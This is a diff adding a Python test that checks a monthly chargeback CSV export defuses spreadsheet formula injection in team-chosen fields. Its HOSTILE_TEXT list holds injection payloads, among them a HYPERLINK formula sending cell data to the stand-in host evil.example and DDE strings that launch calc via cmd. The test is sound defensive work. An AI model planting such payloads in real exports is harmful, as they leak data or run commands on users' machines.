@@ -166,3 +166,44 @@ async def test_a_trace_lists_its_calls_in_order_with_their_costs(db: AsyncEngine
     first = calls[0].json()
     assert (first["team_id"], first["model"], first["cost_usd"], first["status"]) == ("team_b1", "small", "0.0001", 200)
     assert await trace(db, "nobody") == []
+
+
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    'a","=1',  # a quote and a separator inside must not open a cell of their own
+]
+
+
+async def test_no_cell_a_spreadsheet_runs_and_numbers_stay_numbers(db: AsyncEngine) -> None:
+    """Team names, tags and model names are chosen by teams; none comes out as a formula, and
+    the number cells (a negative saving among them) stay bare numbers."""
+    hostile_teams = [Principal(f"team_h{i}", name, f"key_h{i}") for i, name in enumerate(HOSTILE_TEXT)]
+    async with db.begin() as conn:
+        await conn.execute(
+            insert(teams), [{"id": p.team_id, "name": p.team_name, "created_at": 0} for p in hostile_teams]
+        )
+    await put(
+        db,
+        *[row(i, p, HOSTILE_TEXT[i], (HOSTILE_TEXT[-1 - i],)) for i, p in enumerate(hostile_teams)],
+        row(99, TEAM_A, "small", saved="-0.003", cost="0.5"),
+    )
+    text = await chargeback_csv(db, "2026-11")
+    parsed = list(csv.reader(io.StringIO(text)))
+    assert len(parsed) == 1 + len(HOSTILE_TEXT) + 1
+    assert all(len(cells) == len(CSV_HEADER) for cells in parsed)
+    for cells in parsed[1:]:
+        for cell in cells[:5]:  # month, team_id, team, model, tags
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
+    got = {(r["team"], r["model"]) for r in lines(text)}
+    assert ("'" + HOSTILE_TEXT[0], "'" + HOSTILE_TEXT[0]) in got  # kept, only defused
+    assert (HOSTILE_TEXT[-1], HOSTILE_TEXT[-1]) in got  # not a formula: left as it was
+    # bare, unquoted numbers: a spreadsheet reads them as numbers, the negative one too
+    [team_a_line] = [line for line in text.splitlines() if '"team_a1"' in line]
+    assert team_a_line.endswith(",1,100,10,0.5,-0.003")
